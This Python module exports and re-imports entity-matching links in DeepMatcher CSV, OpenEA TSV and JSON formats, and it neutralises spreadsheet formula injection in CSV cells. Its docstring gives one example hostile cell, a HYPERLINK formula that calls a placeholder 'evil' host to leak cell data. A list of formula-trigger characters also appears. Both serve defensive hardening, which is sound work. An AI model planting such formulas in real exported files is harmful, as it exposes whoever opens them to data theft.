"""Accepted links in the formats other tools read.

- DeepMatcher / Magellan CSV: ``ltable_id,rtable_id,label``. Table imports name entities
  ``"<row type>:<table id>"`` (``"paper:12"``); the prefix is taken off again so the ids are the
  table's own.
- OpenEA / DBP15K ``ent_links``: ``left_id<TAB>right_id`` per line, no header.
- JSON: every accepted link with its type, analyst, time, model version and note.

``accepted`` is a frame with at least ``left_id, right_id, type`` (plus ``analyst, decided_at,
model_version, note`` for JSON), one row per pair.

CSV cells that a spreadsheet would run as a formula (text starting with ``= + - @``, a tab or a
carriage return) get a leading single quote, as OWASP's "CSV Injection" page recommends: an
entity id like ``=HYPERLINK("http://evil/?"&A1)`` from a hostile data set then opens as text.
Such an id is written as ``'=HYPERLINK(...)`` and reads back with the quote.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd

from core.formats.errors import ProblemLog
from core.formats.textio import parse_csv, read_text


#: First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
#: (OWASP: = + - @ tab CR; the full-width forms, which LibreOffice also takes).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_safe(cell: object) -> object:
    """``cell`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Numbers are left alone (``-0.5`` is a number, not a formula); apply this to text columns.

    >>> spreadsheet_safe('=1+1'), spreadsheet_safe('Matrix'), spreadsheet_safe(-3)
    ("'=1+1", 'Matrix', -3)
    """
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def _table_id(entity_id: str, type_name: str) -> str:
    prefix = f"{type_name}:"
    return entity_id[len(prefix):] if entity_id.startswith(prefix) else entity_id


def deepmatcher_csv(accepted: pd.DataFrame, *, left_type_of: dict[str, str] | None = None,
                    right_type_of: dict[str, str] | None = None, rejected: pd.DataFrame | None = None) -> str:
    """``ltable_id,rtable_id,label``: accepted pairs with label 1 (and ``rejected`` with label 0).

    ``left_type_of`` / ``right_type_of`` map an aligned type to that side's entity type, whose
    ``"type:"`` id prefix is removed (identity when omitted).
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["ltable_id", "rtable_id", "label"])
    for frame, label in ((accepted, 1), (rejected, 0)):
        if frame is None:
            continue
        for row in frame.itertuples(index=False):
            left_type = (left_type_of or {}).get(row.type, row.type)
            right_type = (right_type_of or {}).get(row.type, row.type)
            writer.writerow([spreadsheet_safe(_table_id(str(row.left_id), left_type)),
                             spreadsheet_safe(_table_id(str(row.right_id), right_type)), label])
    return buffer.getvalue()


def ent_links_tsv(accepted: pd.DataFrame) -> str:
    """OpenEA / DBP15K ``ent_links``: one ``left<TAB>right`` line per accepted pair."""
    for column in ("left_id", "right_id"):
        bad = accepted[column].astype(str).str.contains(r"[\t\n\r]", regex=True)
        if bad.any():
            raise ValueError(f"{column} {accepted[column][bad].iloc[0]!r} contains a tab or newline; "
                             "ent_links cannot hold it (use the JSON export)")
    return "".join(f"{a}\t{b}\n" for a, b in zip(accepted["left_id"], accepted["right_id"]))


def links_json(accepted: pd.DataFrame, *, project: str = "") -> str:
    """Accepted links with their provenance, as a JSON document."""
    fields = [c for c in ("left_id", "right_id", "type", "analyst", "decided_at", "model_version", "note")
              if c in accepted.columns]
    links = [{f: (None if pd.isna(v) else str(v)) for f, v in zip(fields, row)}
             for row in accepted[fields].itertuples(index=False)]
    return json.dumps({"project": project, "links": links}, ensure_ascii=False, indent=2) + "\n"


#: Columns of a DeepMatcher / Magellan label file, in order.
DEEPMATCHER_COLUMNS = ("ltable_id", "rtable_id", "label")


def read_deepmatcher_csv(text: str, *, source: str | Path = "<deepmatcher csv>") -> pd.DataFrame:
    """Read ``ltable_id,rtable_id,label`` text back: ids as strings, label as int (0 or 1).

    The text may come from a file someone edited, so it is checked like an import: every
    malformed record, missing id, label other than 0/1 and repeated pair is reported as
    ``source:line: problem`` in one :class:`~core.formats.errors.DataError`. Extra columns are allowed
    and dropped.

    Raises
    ------
    DataError
        Listing every problem; ``source`` names the file in the messages.
    """
    log = ProblemLog()
    parsed = parse_csv(text.removeprefix("\ufeff"), source, log)
    if parsed is None:
        log.raise_if_any()
    header, frame = parsed
    missing = [c for c in DEEPMATCHER_COLUMNS if c not in header]
    if missing:
        log.add(source, 1, f"header lacks column(s) {missing}; found {header}")
        log.raise_if_any()
    lines = frame.index.to_numpy()
    for column in ("ltable_id", "rtable_id"):
        values = frame[column].to_numpy(dtype=object)
        for row in np.flatnonzero(pd.Series(values, dtype=object).str.strip().to_numpy() == ""):
            log.add(source, int(lines[row]), f"empty {column}")
    labels = frame["label"].to_numpy(dtype=object)
    for row in np.flatnonzero((labels != "0") & (labels != "1")):
        log.add(source, int(lines[row]), f"label must be 1 or 0, got {labels[row]!r}")
    pairs = pd.DataFrame({"l": frame["ltable_id"].to_numpy(dtype=object),
                          "r": frame["rtable_id"].to_numpy(dtype=object), "line": lines})
    first = pairs.groupby(["l", "r"], sort=False)["line"].transform("first").to_numpy()
    for row in np.flatnonzero(pairs.duplicated(["l", "r"], keep="first").to_numpy()):
        log.add(source, int(lines[row]), f"duplicate pair ({pairs['l'].iat[row]!r}, {pairs['r'].iat[row]!r}), "
                                         f"first on line {int(first[row])}")
    log.raise_if_any()
    out = frame[list(DEEPMATCHER_COLUMNS)].reset_index(drop=True).astype({"ltable_id": str, "rtable_id": str})
    return out.astype({"label": int})


def load_deepmatcher_csv(path: str | Path) -> pd.DataFrame:
    """:func:`read_deepmatcher_csv` of a file, read strictly as UTF-8 (bad bytes reported by line)."""
    log = ProblemLog()
    text = read_text(Path(path), log)
    log.raise_if_any()
    return read_deepmatcher_csv(text, source=path)
